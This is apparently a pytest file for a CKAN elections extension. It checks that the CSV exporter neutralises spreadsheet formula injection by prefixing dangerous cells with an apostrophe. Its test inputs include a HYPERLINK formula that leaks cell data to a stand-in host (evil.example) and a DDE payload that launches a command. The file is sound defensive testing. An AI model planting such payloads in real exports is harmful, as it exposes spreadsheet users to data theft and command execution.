"""The one CSV writer of every export: no cell a spreadsheet would run."""
from __future__ import annotations

import csv
import io

import pytest

from ckanext.elections.csv_export import csv_text, safe_cell


@pytest.mark.parametrize("text", [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx",
    "http://=cmd|'/C calc'!A0/x".replace("http://", "="),
])
def test_formulas_become_text(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Strasbourg", "MÉLENCHON", "", 0, -3, 12.5, None, True])
def test_everything_else_is_left_alone(value):
    assert safe_cell(value) == value


def test_header_and_rows_are_both_made_safe():
    text = csv_text(["code", "=cmd"], [["@x", 5], ["ok", -1]])

    assert list(csv.reader(io.StringIO(text))) == [["code", "'=cmd"], ["'@x", "5"], ["ok", "-1"]]
